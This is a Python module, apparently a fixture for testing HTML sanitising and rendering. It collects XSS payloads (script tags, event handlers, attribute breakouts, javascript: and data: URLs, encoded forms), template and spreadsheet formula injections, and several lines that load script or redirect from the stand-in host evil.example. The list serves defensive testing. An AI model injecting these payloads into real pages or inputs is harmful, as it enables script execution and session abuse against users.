"""Text as nobody should send it: what is known to break out of pages, and what breaks layouts. All of it is only text.

Each tries to run ``hack(…)``. Written down from the usual lists of such strings, by what they aim at.
"""

from __future__ import annotations

SCRIPTS = (
    "<script>hack(1)</script>",
    "<SCRIPT SRC=//evil.example/hack.js></SCRIPT>",
    "<ScRiPt>hack(1)</sCrIpT>",
    "<<script>hack(1);//<</script>",
    "<script\n>hack(1)</script\n>",
    "<script/x>hack(1)</script>",
    "</script><script>hack(1)</script>",
    "</title><script>hack(1)</script>",
    "</textarea><script>hack(1)</script>",
    "</style><script>hack(1)</script>",
    "<noscript><p title='</noscript><script>hack(1)</script>'>",
    "<!--><script>hack(1)</script-->",
    "<![CDATA[<script>hack(1)</script>]]>",
    "<?xml version='1.0'?><script>hack(1)</script>",
    "<script type=module>import('//evil.example/hack')</script>",
)
HANDLERS = (
    "<img src=x onerror=hack(1)>",
    "<img src=x onerror='hack(1)'//",
    "<img/src/onerror=hack(1)>",
    "<img src=`x`onerror=hack(1)>",
    "<IMG SRC=x OnErRoR=hack(1)>",
    "<svg onload=hack(1)>",
    "<svg/onload=hack(1)//",
    "<svg><animate onbegin=hack(1) attributeName=x dur=1s>",
    "<svg><script>hack(1)</script></svg>",
    "<body onload=hack(1)>",
    "<input autofocus onfocus=hack(1)>",
    "<select autofocus onfocus=hack(1)>",
    "<details open ontoggle=hack(1)>",
    "<video src=x onerror=hack(1)>",
    "<audio src onloadstart=hack(1)>",
    "<video><source onerror=hack(1)>",
    "<marquee onstart=hack(1)>",
    "<div onpointerover=hack(1) style=position:fixed;inset:0>",
    "<p tabindex=0 autofocus onfocus=hack(1)>",
    "<a onmouseover=hack(1)>da</a>",
    "<style>@keyframes x{}</style><b style='animation:x' onanimationstart=hack(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hack(1)>",
    "<form><button formaction=javascript:hack(1)>da",
    "<isindex type=image src=1 onerror=hack(1)>",
)
ATTRIBUTES = (
    '" onmouseover="hack(1)',
    "' onmouseover='hack(1)",
    '"><script>hack(1)</script>',
    "'><script>hack(1)</script>",
    '"/><img src=x onerror=hack(1)>',
    "` onmouseover=hack(1) `",
    '" autofocus onfocus="hack(1)" x="',
    '" style="background:url(javascript:hack(1))',
    'x" hx-get="/hack" hx-trigger="load',
    'x" hx-on:load="hack(1)',
    '<div hx-get="/logout" hx-trigger="load">hack</div>',
    '<div data-js hidden hx-post="/hack">',
)
ADDRESSES = (
    "javascript:hack(1)",
    "JaVaScRiPt:hack(1)",
    "java\tscript:hack(1)",
    "data:text/html,<script>hack(1)</script>",
    "<a href=javascript:hack(1)>da</a>",
    "<a href='java&#x0A;script:hack(1)'>da</a>",
    "<iframe src=javascript:hack(1)></iframe>",
    "<iframe srcdoc='<script>hack(1)</script>'>",
    "<object data=javascript:hack(1)>",
    "<embed src=javascript:hack(1)>",
    "<base href=//evil.example/hack/>",
    "<link rel=stylesheet href=//evil.example/hack.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/hack'>",
)
ENCODED = (
    "&lt;script&gt;hack(1)&lt;/script&gt;",
    "&#60;script&#62;hack(1)&#60;/script&#62;",
    "%3Cscript%3Ehack(1)%3C/script%3E",
    "\\u003cscript\\u003ehack(1)\\u003c/script\\u003e",
    "+ADw-script+AD4-hack(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1ehack(1)\uff1c/script\uff1e",
    "{{ hack(1) }} {% hack %} {# hack #}",
    "${hack(1)} #{hack(1)} <%= hack(1) %>",
    "%(hack)s %s {hack}",
    '=HYPERLINK("http://evil.example","hack")',
    "@SUM(1+1)*cmd|' /C hack'!A0",
    "-1+1|cmd hack",
)
ODD = (
    "מרים כהן אמרה hack שלום",
    "\u202etxt.hack\u202c \u2066لـ hack",
    "مرحبا <b>hack</b>",
    "👩🏽‍💻🇩🇪 hack 👨‍👩‍👧‍👦",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤a̴̵lgo hack",
    "\x01\x02\x1b[31mhack\x7f",
    "Zeile eins\r\nhack\n\n\nZeile drei",
    "hack" + "W" * 300,
)
STRINGS = (*SCRIPTS, *HANDLERS, *ATTRIBUTES, *ADDRESSES, *ENCODED, *ODD)
LONG = "Er sagte <b>hack</b> & ging. " * 6900  # 200,100 characters
